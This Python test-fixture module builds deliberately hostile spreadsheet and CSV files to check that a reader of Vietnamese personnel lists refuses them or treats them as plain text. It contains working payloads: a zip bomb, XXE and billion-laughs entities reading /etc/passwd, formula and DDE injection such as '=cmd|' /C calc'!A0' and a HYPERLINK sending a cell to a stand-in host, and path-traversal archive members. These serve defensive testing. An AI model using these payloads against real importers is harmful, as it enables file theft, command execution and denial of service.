"""Files that somebody may hand to a reader of personnel lists, to break it or what it writes.

Each builder returns the bytes of a file; its docstring says what is wrong with the file.
"""

import io
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path

from openpyxl import Workbook

from office_lists import MADE, saved, zipped

HEADER = ("STT", "Họ và tên", "Ngày sinh", "Chức vụ", "Đơn vị", "Ghi chú")
UNIT = "Sở Nội vụ"
USUAL = (1, "Đỗ Văn Khải", "12/5/1980", "Chuyên viên", UNIT, "")
SHEET = "xl/worksheets/sheet1.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

REFUSE = "a sentence says why the file is not read, and nothing is written"
TEXT = "the file is read, and what it says comes out as text"
EITHER = "one of both, whichever: but in bounded time and memory, and never more than text"


@dataclass(frozen=True)
class Hostile:
    """A file, and what a reader must do with it."""

    file: str
    expect: str
    build: Callable[[], bytes]

    @property
    def why(self) -> str:
        """What is wrong with the file."""
        return self.build.__doc__ or ""

    def write(self, folder: Path) -> Path:
        """Write the file into a folder."""
        path = folder / self.file
        path.write_bytes(self.build())
        return path


HOSTILE: dict[str, Hostile] = {}
LARGE = {"zip-bomb.xlsx", "million-rows.xlsx", "million-rows.csv", "long-line.csv", "deep.xlsx"}
"""Files that take a while to build or to read."""


def hostile(file: str, expect: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Add a builder to HOSTILE."""

    def add(build: Callable[[], bytes]) -> Callable[[], bytes]:
        HOSTILE[file] = Hostile(file, expect, build)
        return build

    return add


def book(rows: Iterable[tuple[str | int, ...]] = (), *, as_text: bool = False) -> Workbook:
    """Return a small list, with rows below one of somebody usual."""
    workbook = Workbook()
    page = workbook.worksheets[0]
    for row in (HEADER, USUAL, *rows):
        page.append(row)
        for cell in page[page.max_row]:
            if as_text and cell.data_type == "f":
                cell.data_type = "s"
    return workbook


def sheet(rows: str, *, before: str = "", after: str = "") -> bytes:
    """Return a workbook whose sheet has these rows of XML."""
    xml = f'{before}<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData>{after}</worksheet>'
    return saved(book(), {SHEET: xml.encode()})


def row(*texts: str) -> str:
    """Return a row of XML with texts in it."""
    cells = (f'<c t="inlineStr"><is><t>{text}</t></is></c>' for text in texts)
    return f"<row>{''.join(cells)}</row>"


def table(rows: str, before: str = "") -> bytes:
    """Return an .ods file whose only table has these rows of XML."""
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    namespaces = (
        f'xmlns:office="{office}" '
        f'xmlns:table="{office.replace(":office:1", ":table:1")}" '
        f'xmlns:text="{office.replace(":office:1", ":text:1")}"'
    )
    content = (
        f"{before}<office:document-content {namespaces}><office:body><office:spreadsheet>"
        f'<table:table table:name="DS">{rows}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    return zipped(
        {
            "mimetype": kind.encode(),
            "content.xml": content.encode(),
            "META-INF/manifest.xml": manifest.encode(),
        }
    )


# What becomes a formula, or more than text, in what is written.

LIKE_FORMULAS = (
    '=HYPERLINK("http://x.invalid/?"&B2,"Lê Thị Mơ")',
    "=1+1",
    "+84912345678",
    "-Nguyễn Văn Bảy",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\tTrần Thị Liên",
)
LIKE_OTHER_FILES = (
    "Bùi Văn Sơn\nmail: root@x.invalid",
    "Bùi Văn Sơn: #",
    "- {id: x, name: y}",
    "<script>alert(1)</script>",
    "{{ 7 * 7 }}${7*7}",
    "Cao Thị Nga\u202e\u200b",
    "../../etc/passwd",
    "x" * 32_000,
)


@hostile("formulas.xlsx", EITHER)
def formulas() -> bytes:
    """Cells of names, titles and units are formulas."""
    other = "='file:///etc/[passwd]x'!A1"
    return saved(book([(2, name, "3/4/1985", other, UNIT, "") for name in LIKE_FORMULAS[:2]]))


@hostile("names-like-formulas.xlsx", TEXT)
def names_like_formulas() -> bytes:
    """Texts begin as formulas do, and become formulas in a workbook that takes them over."""
    rows = [(2, "Lê Thị Mơ", "3/4/1985", text, UNIT, text) for text in LIKE_FORMULAS]
    rows += [(2, text, "3/4/1985", "Chuyên viên", UNIT, "") for text in LIKE_FORMULAS]
    rows += [(2, "Lê Thị Lan", "3/4/1985", "Chuyên viên", text, "") for text in LIKE_FORMULAS]
    return saved(book(rows, as_text=True))


@hostile("names-like-formulas.csv", TEXT)
def names_like_formulas_csv() -> bytes:
    """Texts of a .csv begin as formulas do."""
    rows = (
        HEADER,
        *((2, name.replace('"', '""'), "3/4/1985", "", UNIT, "") for name in LIKE_FORMULAS),
    )
    lines = (",".join(f'"{cell}"' for cell in row) for row in rows)
    return "\r\n".join(lines).encode("utf-8-sig")


@hostile("names-like-other-files.xlsx", EITHER)
def names_like_other_files() -> bytes:
    """Names are lines of LDIF, YAML, HTML or templates, or have characters that nobody sees."""
    return saved(
        book([(2, name, "3/4/1985", "Chuyên viên", UNIT, "") for name in LIKE_OTHER_FILES])
    )


# What takes time and memory without end.


@hostile("zip-bomb.xlsx", REFUSE)
def zip_bomb() -> bytes:
    """Half a megabyte is 512 MiB when it is unpacked."""
    out = io.BytesIO(saved(book(), {SHEET: None}))
    part = zipfile.ZipInfo(SHEET)
    part.compress_type = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(out, "a") as archive, archive.open(part, "w") as xml:
        xml.write(f'<worksheet xmlns="{MAIN}"><sheetData>{row(*HEADER)}'.encode())
        for _ in range(512):
            xml.write(b" " * 2**20)
        xml.write(b"</sheetData></worksheet>")
    return out.getvalue()


@hostile("far-cells.xlsx", EITHER)
def far_cells() -> bytes:
    """The last cell of the largest sheet is filled, so the sheet has 17 billion cells."""
    workbook = book()
    workbook.worksheets[0]["XFD1048576"] = "x"
    return saved(workbook)


@hostile("merged-everywhere.xlsx", EITHER)
def merged_everywhere() -> bytes:
    """One merged range covers all 17 billion cells."""
    whole = '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return sheet(row(*HEADER) + row("1", "Đỗ Văn Khải"), after=whole)


@hostile("million-rows.xlsx", REFUSE)
def million_rows() -> bytes:
    """A million people, more than the province has."""
    return sheet(row(*HEADER) + row("1", "Đỗ Văn Khải", "12/5/1980", "Chuyên viên") * 1_000_000)


@hostile("million-rows.csv", REFUSE)
def million_rows_csv() -> bytes:
    """A million people in one .csv."""
    return (",".join(HEADER) + "\n" + (",".join(map(str, USUAL)) + "\n") * 1_000_000).encode()


@hostile("repeated.ods", REFUSE)
def repeated() -> bytes:
    """One cell is said to be repeated 17 billion times."""
    cell = (
        '<table:table-cell office:value-type="string" table:number-columns-repeated="16384">'
        "<text:p>x</text:p></table:table-cell>"
    )
    return table(f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>')


@hostile("deep.xlsx", REFUSE)
def deep() -> bytes:
    """Elements stand in each other, 200,000 deep."""
    return sheet("<row>" * 200_000 + "</row>" * 200_000)


@hostile("long-line.csv", REFUSE)
def long_line() -> bytes:
    """One cell has 64 MiB."""
    return (",".join(HEADER) + '\n1,"' + "x" * 2**26).encode()


# XML that asks for more than it has.

EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, 10))


@hostile("external-entity.xlsx", REFUSE)
def external_entity() -> bytes:
    """An entity is a file of the machine."""
    return sheet(row(*HEADER) + row("1", "&e;"), before=EXTERNAL)


@hostile("external-entity.ods", REFUSE)
def external_entity_ods() -> bytes:
    """An entity of an .ods is a file of the machine."""
    cell = '<table:table-cell office:value-type="string"><text:p>&e;</text:p></table:table-cell>'
    return table(f"<table:table-row>{cell}</table:table-row>", before=EXTERNAL)


@hostile("entities.xlsx", REFUSE)
def entities() -> bytes:
    """Entities made of entities are a thousand million letters."""
    before = f'<!DOCTYPE x [<!ENTITY e0 "x">{LAUGHS}]>'
    return sheet(row(*HEADER) + row("1", "&e9;"), before=before)


# Workbooks that are broken, closed, or carry programs.


@hostile("macros.xlsm", REFUSE)
def macros() -> bytes:
    """A workbook with macros, as its name says."""
    return macros_within()


@hostile("macros-within.xlsx", EITHER)
def macros_within() -> bytes:
    """A workbook with macros, though its name says that it has none."""
    kinds = member_of(saved(book()), "[Content_Types].xml").replace(
        b"vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024)
    return saved(book(), {"xl/vbaProject.bin": vba, "[Content_Types].xml": kinds})


def member_of(archive: bytes, member: str) -> bytes:
    """Return one member of an archive."""
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        return opened.read(member)


@hostile("password.xlsx", REFUSE)
def password() -> bytes:
    """A workbook that only a password opens."""
    return (MADE / "password.xlsx").read_bytes()


@hostile("string-that-is-not-there.xlsx", REFUSE)
def string_that_is_not_there() -> bytes:
    """A cell has the text of number 9,999, of which there is none."""
    return sheet('<row r="1"><c r="A1" t="s"><v>9999</v></c></row>')


@hostile("cell-that-cannot-be.xlsx", REFUSE)
def cell_that_cannot_be() -> bytes:
    """A cell stands at ZZZZZ99999999999."""
    return sheet('<row r="99999999999"><c r="ZZZZZ99999999999"><v>1</v></c></row>')


@hostile("outside.xlsx", EITHER)
def outside() -> bytes:
    """A part of the archive has a path that leads out of it."""
    return saved(book(), {"../../../tmp/outside": b"x"})


@hostile("cut.xlsx", REFUSE)
def cut() -> bytes:
    """The second half of the file is missing."""
    whole = saved(book())
    return whole[: len(whole) // 2]


@hostile("cut.xls", REFUSE)
def cut_xls() -> bytes:
    """The second half of an old file is missing."""
    whole = (MADE / "xa-muong-lat.xls").read_bytes()
    return whole[: len(whole) // 2]


# No workbooks at all.


@hostile("page.xls", REFUSE)
def page() -> bytes:
    """A page of HTML, as many programs of offices export "to Excel"."""
    cells = "".join(f"<td>{text}</td>" for text in HEADER)
    return f"<html><body><table><tr>{cells}</tr></table></body></html>".encode()


@hostile("paper.xlsx", REFUSE)
def paper() -> bytes:
    """A PDF."""
    return b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


@hostile("letter.xlsx", REFUSE)
def letter() -> bytes:
    """A letter of a word processor."""
    return zipped({"word/document.xml": b"<w:document/>", "[Content_Types].xml": b"<Types/>"})


@hostile("empty.xlsx", REFUSE)
def empty() -> bytes:
    """Nothing."""
    return b""


@hostile("empty.csv", REFUSE)
def empty_csv() -> bytes:
    """Nothing, as text."""
    return b""


@hostile("noise.csv", REFUSE)
def noise() -> bytes:
    """Bytes of no encoding, zeros among them."""
    return bytes(range(256)) * 64


@hostile("picture.ods", REFUSE)
def picture() -> bytes:
    """A picture."""
    return b"\x89PNG\r\n\x1a\n" + bytes(64)
